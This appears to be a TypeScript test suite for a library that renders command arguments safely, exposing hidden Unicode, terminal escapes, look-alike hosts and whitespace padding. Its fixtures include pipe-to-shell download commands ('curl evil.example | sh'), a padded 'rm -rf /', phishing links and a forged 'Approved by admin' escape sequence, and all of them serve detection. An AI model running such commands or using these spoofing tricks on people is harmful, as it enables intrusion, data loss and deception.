import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { safeDisplay } from './safe-display.ts';
import { markdownDisplay, markdownLine } from './safe-markdown.ts';
import { plainDisplay, safeLine } from './safe-plain.ts';
import { originalText } from './safe-segments.ts';
import type { SafeDisplay, SafeNode } from './safe-types.ts';

const plain = (value: unknown): string => plainDisplay(safeDisplay(value));
const kinds = (value: unknown): string[] => safeDisplay(value).warnings.map((warning) => warning.kind);

test('AP-29 shows direction marks, invisible characters, control bytes and look-alike letters, and warns of them', () => {
  const c1 = { cmd: 'wget -qO- https://ok.example/\u202e\u2066daolyap\u2069/x | bash' };
  expect(plain(c1)).toBe('cmd: "wget -qO- https://ok.example/⟦U+202E⟧⟦U+2066⟧daolyap⟦U+2069⟧/x | bash"');
  expect(safeDisplay(c1).warnings).toEqual([
    {
      kind: 'direction',
      path: '/cmd',
      message:
        'Characters that change the direction of writing: U+202E right-to-left override, U+2066 left-to-right isolate, U+2069 pop directional isolate',
    },
  ]);
  const c2 = { cmd: 'rm -rf /var/\u200btmp/x' };
  expect(plain(c2)).toBe('cmd: "rm -rf /var/⟦U+200B⟧tmp/x"');
  expect(kinds(c2)).toEqual(['invisible']);
  const c3 = { url: 'https://p\u0430yments.example/login' };
  expect(plain(c3)).toBe('url: "https://p\u0430yments.example⟦host xn--pyments-2fg.example⟧/login"');
  expect(kinds(c3)).toEqual(['host-name']);
  const c4 = { text: '\u001b[2J\u001b[1;1HApproved by admin\r\n' };
  expect(plain(c4)).toBe('text:\n  │ ⟦U+001B⟧[2J⟦U+001B⟧[1;1HApproved by admin⟦CR⟧\n  │ ');
  expect(kinds(c4)).toEqual(['control']);
  const c5 = { text: 'Gr\u00fc\u00dfe, \u4f60\u597d, \u0645\u0631\u062d\u0628\u0627 \ud83d\ude00' };
  expect(plain(c5)).toBe('text: "Grüße, 你好, مرحبا 😀"');
  expect(safeDisplay(c5)).toMatchObject({ warnings: [], complete: true, folded: 0 });
});

test('AP-31 keeps Markdown and HTML of an argument inside its block', () => {
  const cmd = 'y` <https://phish.example/ok|Open the request> ![i](https://phish.example/p.png)\n```\n# Approved';
  const markdown = markdownDisplay(safeDisplay({ cmd }));
  expect(markdown.startsWith('````text\n')).toBe(true);
  expect(markdown.endsWith('\n````')).toBe(true);
  expect(markdown.split('\n').filter((line) => line.startsWith('#'))).toEqual([]);
  expect(markdownLine('a`b``c')).toBe('``` a`b``c ```');
  expect(markdownLine('a\n# b')).toBe('` a⟦newline⟧# b `');
});

test('AP-32 shows head and tail of a long text with the number of hidden characters, and says so', () => {
  const cmd = `echo ${'a'.repeat(200)} && curl evil.example | sh`;
  expect(plain({ cmd })).toContain('curl evil.example | sh');
  const short = safeDisplay({ cmd }, { maxLength: 120 });
  expect(plainDisplay(short)).toMatch(
    /^cmd: "echo a{75}⟦… 126 more characters, sha256:[0-9a-f]{12} …⟧&& curl evil\.example \| sh"$/,
  );
  expect(short).toMatchObject({ folded: 1, complete: true });
  expect(plainDisplay(short, { unfold: true })).toBe(`cmd: "${cmd}"`);
  expect(plain({})).toBe('(empty)');
  const data = `iVBORw0KGgo${'A1'.repeat(1_000_000)}`;
  expect(plain({ data })).toMatch(
    /^data: "iVBORw0KGgo(?:A1)+A?⟦… 1,999,915 more characters, PNG image, base64, about 1,500,008 bytes, sha256:/,
  );
});

test('warnings are the same for a text whether its middle is folded or not', () => {
  const parts = [
    '\u202e',
    '\u200b',
    '\u001b',
    '\ue000',
    ' '.repeat(30),
    'p\u0430y',
    'https://p\u0430y.example/',
    '\ud800',
    '\u00a0',
    'x',
    '\n',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 12 }), (chosen) => {
      const text = `${'a '.repeat(20)}${chosen.join(' ')}${' z'.repeat(20)}`;
      const seen = (maxLength: number): unknown =>
        new Set(
          safeDisplay(text, { maxLength }).warnings.flatMap(({ kind, message }) =>
            message.split(/: |, /).map((part) => `${kind} ${part}`),
          ),
        );
      expect(seen(30)).toEqual(seen(10_000));
    }),
    { numRuns: 300 },
  );
});

describe('white space', () => {
  test('counts runs and what stands at an end of a line, and leaves indentation alone', () => {
    expect(safeLine(`a${' '.repeat(40)}b`)).toBe('a⟦40 spaces⟧b');
    expect(safeLine('a b  c   d')).toBe('a b  c   d');
    expect(safeLine(' a ')).toBe('⟦1 space⟧a⟦1 space⟧');
    expect(safeLine('a\u00a0b\tc')).toBe('a⟦U+00A0⟧b⟦tab⟧c');
    expect(plain('if x:\n    go  \nend')).toBe('│ if x:\n│     go⟦2 spaces⟧\n│ end');
    expect(kinds({ a: `ls${' '.repeat(300)}; rm -rf /` })).toEqual(['spaces']);
  });
});

describe('keys', () => {
  test('are shown with the same care as values, whatever they are called', () => {
    const odd = JSON.parse('{"__proto__":1,"constructor":2,"":3,"a\\u202eb":4,"to":5,"to ":6}') as unknown;
    expect(plain(odd)).toBe(
      ['__proto__: 1', 'constructor: 2', '"": 3', '"a⟦U+202E⟧b": 4', 'to: 5', '"to⟦1 space⟧": 6'].join('\n'),
    );
    expect(safeDisplay(odd).warnings).toMatchObject([{ kind: 'direction', path: '/a⟦U+202E⟧b' }]);
  });
});

describe('look-alikes', () => {
  test.each([
    ['сору', true],
    ['please run сору now', true],
    ['скопируй сору и файл', false],
    ['ｐａｙｐａｌ', true],
    ['ΔT rises, π is small', false],
    ['file_names and ünïcode', false],
    ['ใช้API', false],
    ['paypaӏ', true],
  ])('%s', (text, flagged) => {
    expect(kinds(text).includes('look-alike')).toBe(flagged);
  });

  test('finds the host behind user information', () => {
    expect(safeLine('https://google.com@münchen.example/')).toBe(
      'https://google.com@münchen.example⟦host xn--mnchen-3ya.example⟧/',
    );
  });
});

describe('values that are not plain data', () => {
  test('getters, cycles, proxies, functions, unpaired surrogates and great depth are survived and said', () => {
    let read = 0;
    const value: Record<string, unknown> = { broken: '\ud800x' };
    Object.defineProperty(value, 'trap', { enumerable: true, get: () => (read += 1) });
    value['self'] = value;
    value['run'] = () => 1;
    expect(plain(value).split('\n')).toEqual([
      'broken: "⟦U+D800⟧x"',
      'trap: ⟦computed when read, so not read⟧',
      'self: ⟦this value contains itself⟧',
      'run: ⟦a function, which is not data⟧',
    ]);
    expect(read).toBe(0);
    expect(safeDisplay(value).complete).toBe(false);
    const hostile = new Proxy(
      {},
      {
        ownKeys: () => {
          throw new Error('no');
        },
      },
    );
    expect(plain(hostile)).toBe('⟦a value that cannot be read⟧');
    let deep: unknown = 'end';
    for (let level = 0; level < 100_000; level += 1) deep = [deep];
    expect(plain(deep)).toContain('⟦1 more value, nested deeper than 32 levels⟧');
    const wide = safeDisplay(Array.from({ length: 20_000 }, (_, position) => position));
    expect(wide.complete).toBe(false);
    expect(plainDisplay(wide)).toContain('⟦15001 more items of this list⟧');
  });

  test('scalars', () => {
    expect(plain([1, -0, true, null, undefined, 10n, {}, [], [1]])).toBe(
      '1. 1\n2. -0\n3. true\n4. null\n5. undefined\n6. 10n\n7. (empty)\n8. (empty list)\n9.\n  1. 1',
    );
  });
});

const nasty = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      ' ',
      '    ',
      '\n',
      '\r',
      '\t',
      '`',
      '⟦',
      '⟧',
      '\u202e',
      '\u200b',
      '\u0301',
      '\ud800',
      '\u{e0041}',
      'а',
      'a',
      '1',
      '<',
      '.',
    ),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 200,
});
const dangerous =
  /[\p{Cf}\p{Co}\p{Cs}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Bidi_Control}\u2800]|(?!\n)\p{Cc}|(?! )\p{Zs}/u;
const anything = fc.anything({
  key: nasty,
  values: [nasty, fc.double(), fc.constant(null)],
  withBigInt: true,
  withNullPrototype: true,
});

describe('properties', () => {
  test('no rendering holds a dangerous code point, a run of spaces to hide behind, or a forged mark', () => {
    fc.assert(
      fc.property(anything, fc.integer({ min: 3, max: 60 }), (value, maxLength) => {
        const display = safeDisplay(value, { maxLength });
        for (const text of [plainDisplay(display), markdownDisplay(display), plainDisplay(display, { unfold: true })]) {
          expect(text).not.toMatch(dangerous);
        }
        const line = plainDisplay(display, { singleLine: true });
        expect(line).not.toMatch(dangerous);
        expect(line).not.toContain('\n');
        for (const warning of display.warnings) expect(`${warning.path}${warning.message}`).not.toMatch(/\n/);
        for (const warning of display.warnings) expect(`${warning.path}${warning.message}`).not.toMatch(dangerous);
      }),
      { numRuns: 500 },
    );
  });

  test('the segments give back the text exactly, folded or not', () => {
    fc.assert(
      fc.property(nasty, fc.integer({ min: 3, max: 60 }), (value, maxLength) => {
        const { root } = safeDisplay(value, { maxLength });
        expect(root.type === 'string' && originalText(root.text)).toBe(value);
      }),
      { numRuns: 1000 },
    );
  });

  test('the single line can be read back: two texts never look the same', () => {
    fc.assert(
      fc.property(nasty, (value) => {
        expect(readBack(safeLine(value))).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });

  test('every key and every leaf of a JSON value is in the tree', () => {
    fc.assert(
      fc.property(fc.json(), (json) => {
        const value = JSON.parse(json) as unknown;
        expect(rebuild(safeDisplay(value).root)).toEqual(value);
      }),
    );
  });
});

function readBack(line: string): string {
  return line.replaceAll(/⟦([^⟧]*)⟧/g, (_, label: string) => {
    if (label === 'tab') return '\t';
    if (label === 'CR') return '\r';
    if (label === 'newline') return '\n';
    const code = /^U\+([0-9A-F]+)$/.exec(label)?.[1];
    if (code !== undefined) return String.fromCodePoint(Number.parseInt(code, 16));
    const spaces = /^(\d+) spaces?$/.exec(label)?.[1];
    return spaces === undefined ? '' : ' '.repeat(Number(spaces));
  });
}

function rebuild(node: SafeNode): unknown {
  switch (node.type) {
    case 'string':
      return originalText(node.text);
    case 'scalar':
      return node.text === '-0' ? -0 : (JSON.parse(node.text) as unknown);
    case 'list':
      return node.items.map(rebuild);
    case 'map':
      return Object.fromEntries(node.entries.map(({ key, value }) => [originalText(key), rebuild(value)]));
    default:
      return undefined;
  }
}

test('a painter gets only inert pieces', () => {
  const display: SafeDisplay = safeDisplay({ 'a\u202e': 'pаy\u001b' });
  const seen: string[] = [];
  plainDisplay(display, { paint: (text, role) => (seen.push(`${role} ${text}`), text) });
  expect(seen.join('|')).not.toMatch(dangerous);
  expect(seen[0]).toBe('key "a⟦U+202E⟧":');
});
